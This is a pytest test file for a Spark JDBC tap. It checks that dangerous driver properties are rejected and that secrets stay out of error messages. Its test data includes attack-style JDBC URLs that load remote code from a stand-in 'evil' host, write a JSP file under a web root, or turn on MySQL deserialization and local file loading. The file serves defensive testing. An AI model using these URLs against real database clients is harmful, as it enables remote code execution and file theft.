"""Rejected driver properties, and the options for Spark's reader."""

from __future__ import annotations

from typing import Any

import pytest

from shared.errors import InvalidSettingsError, SettingsError
from tap_spark.config import tap_config
from tap_spark.sources.jdbc.metadata import reader_options
from tap_spark.stream_config import (
    DANGEROUS,
    ConnectionConfig,
    is_dangerous,
    property_problems,
    secrets_of,
)

PG = "jdbc:postgresql://h/db"


def options(url: str = PG, **fields: Any) -> dict[str, str]:
    return reader_options(ConnectionConfig(name="c", url=url, **fields))


def refused(url: str = PG, **fields: Any) -> str:
    with pytest.raises(SettingsError) as caught:
        options(url, **fields)
    return str(caught.value)


@pytest.mark.parametrize(
    ("url", "name"),
    [
        (PG + "?socketFactory=org.x.Y&socketFactoryArg=http://evil/a.xml", "socketFactory"),
        (PG + "?SOCKETFACTORY=org.x.Y", "SOCKETFACTORY"),
        (PG + "?ssl=true&sslfactory=x", "sslfactory"),
        (PG + "?socket%46actory=x", "socketFactory"),
        (PG + "?socket%2546actory=x", "socketFactory"),
        (PG + "?loggerLevel=TRACE&loggerFile=/var/www/x.jsp", "loggerLevel"),
        (PG + "?authenticationPluginClassName=x", "authenticationPluginClassName"),
        ("jdbc:mysql://h/db?autoDeserialize=true", "autoDeserialize"),
        ("jdbc:mysql://h/db?allowLoadLocalInfile=true", "allowLoadLocalInfile"),
        ("jdbc:mysql://h/db?user=a&allowUrlInLocalInfile=1", "allowUrlInLocalInfile"),
        ("jdbc:mysql://(host=h,port=3306,queryInterceptors=x)/db", "queryInterceptors"),
        ("jdbc:mysql://address=(host=h)(autoDeserialize=true)/db", "autoDeserialize"),
        ("jdbc:mysql://(host=h, statementInterceptors = x)/db", "statementInterceptors"),
        ("jdbc:mysql://h/db?detectCustomCollations=true", "detectCustomCollations"),
        ("jdbc:sqlserver://h;socketFactoryClass=x", "socketFactoryClass"),
        ("jdbc:sqlserver://h;jaasConfigurationName={x}", "jaasConfigurationName"),
        ("jdbc:oracle:thin:@tcps:h:1521/s?TNS_ADMIN=/tmp", "TNS_ADMIN"),
        ("jdbc:oracle:thin:@config-https://evil/x", "config-"),
        ("jdbc:oracle:thin:@ldap://evil/cn=x", "ldap:"),
        ("jdbc:sqlite:/x.db?enable_load_extension=true", "enable_load_extension"),
        ("jdbc:sqlite::resource:http://evil/x.db", ":resource:"),
        ("jdbc:duckdb:/x.db;allow_unsigned_extensions=true", "allow_unsigned_extensions"),
        ("jdbc:duckdb:/x.db;session_init_sql_file=/tmp/x.sql", "session_init_sql_file"),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x'", "INIT"),
        ("jdbc:other://h?connectionFactoryClass=x", "connectionFactoryClass"),
    ],
)
def test_dangerous_urls(url: str, name: str) -> None:
    text = refused(url, password="hush")
    assert repr(name) in text
    assert "'allow_properties'" in text
    assert "connections['c']['url']" in text
    assert "hush" not in text
    assert "evil" not in text
    options(url, allow_properties=tuple(n for n in _names(url)))


@pytest.mark.parametrize("login", ["me:hush/1", "me:#hush", "me:hu?hush", "me:hush/@1"])
def test_a_password_that_ends_the_host(login: str) -> None:
    text = refused(f"jdbc:mariadb://{login}@h:3306/db")
    assert "connections['c']['url']" in text
    assert "set 'user' and 'password' instead" in text
    assert "hush" not in text
    for host in ("h:1,i:2", "[::1]:3306", "me:hush@h", "h"):
        options(f"jdbc:mysql://{host}/db?user=a@b")
    options("jdbc:sqlserver://h:1433;databaseName=d;trustStore=C:/x.jks;user=a@b")
    options("jdbc:postgresql://h:/db?user=a@b")


def _names(url: str) -> list[str]:
    actual = []
    for at, text in property_problems({"url": url}):
        assert at == ("url",)
        actual.append(text.split("'")[1])
    return actual


@pytest.mark.parametrize("name", " ".join(DANGEROUS.values()).split())
def test_dangerous_properties(name: str) -> None:
    assert is_dangerous(name.upper())
    for spelled in (name, name.upper(), f" {name} "):
        assert "['properties']" in refused(properties={spelled: "x"})
    options(properties={name: "x"}, allow_properties=(name.lower(),))


@pytest.mark.parametrize(
    "url",
    [
        PG,
        PG + "?ssl=true&sslmode=verify-full&sslrootcert=/x&ApplicationName=a&options=-c%20x=1",
        "jdbc:mysql://h/db?useSSL=true&allowPublicKeyRetrieval=true&connectTimeout=5",
        "jdbc:sqlserver://h:1433;databaseName=x;encrypt=true;trustServerCertificate=true",
        "jdbc:oracle:thin:@//h:1521/s",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1))"
        "(CONNECT_DATA=(SERVICE_NAME=s)))",
        "jdbc:sqlite:/x.db",
        "jdbc:duckdb:/x.db;threads=2",
    ],
)
def test_ordinary_urls(url: str) -> None:
    assert options(url)["url"] == url


@pytest.mark.parametrize("name", ["dbtable", "query", "sessionInitStatement", "URL", "Password"])
def test_options_of_spark_are_not_properties(name: str) -> None:
    assert "an option of Spark's reader" in refused(properties={name: "x"})
    assert "an option of Spark's reader" in refused(
        properties={name: "x"}, allow_properties=(name,)
    )


def test_what_the_reader_is_given() -> None:
    actual = options(user="u", password="p", fetch_size=7, properties={"applicationname": "mine"})
    assert actual["driver"] == "org.postgresql.Driver"
    assert (actual["user"], actual["password"], actual["fetchsize"]) == ("u", "p", "7")
    assert actual["applicationname"] == "mine"
    assert "ApplicationName" not in actual
    assert actual["readOnly"] == "true"


def test_an_unknown_driver() -> None:
    assert "driver" not in options("jdbc:other://h")
    assert options("jdbc:other://h", driver="a.B")["driver"] == "a.B"


def test_the_settings_are_checked() -> None:
    item = {"name": "c", "url": PG + "?sslfactory=x", "properties": {"loggerFile": "x"}}
    with pytest.raises(InvalidSettingsError) as caught:
        tap_config({"connections": [item]})
    url, prop = caught.value.problems
    assert url.startswith("config['connections'][0]['url']: the driver property 'sslfactory'")
    assert prop.startswith("config['connections'][0]['properties']['loggerFile']: ")
    item["allow_properties"] = ["sslFactory", "loggerfile"]
    tap_config({"connections": [item]})


@pytest.mark.parametrize("item", [{}, {"url": 5, "properties": []}, {"allow_properties": 7}])
def test_items_of_a_wrong_shape(item: dict[str, Any]) -> None:
    assert list(property_problems(item)) == []


@pytest.mark.parametrize(
    ("url", "secret"),
    [
        ("jdbc:mysql://u:s3cret@h/db", "s3cret"),
        ("jdbc:mysql://u:s3%40cret@h/db", "s3@cret"),
        (PG + "?user=u&password=s3cret&x=1", "s3cret"),
        ("jdbc:sqlserver://h;user=u;Password=s3cret;x=1", "s3cret"),
        ("jdbc:oracle:thin:scott/tiger@//h:1521/s", "tiger"),
    ],
)
def test_secrets_of_urls(url: str, secret: str) -> None:
    assert secret in secrets_of(ConnectionConfig(name="c", url=url))


def test_secrets_of_settings() -> None:
    supplied = {"sslpassword": "deep secret", "loginTimeout": "5"}
    actual = ConnectionConfig(name="c", url=PG, password="hush", properties=supplied)
    assert secrets_of(actual) == ("deep secret", "hush")
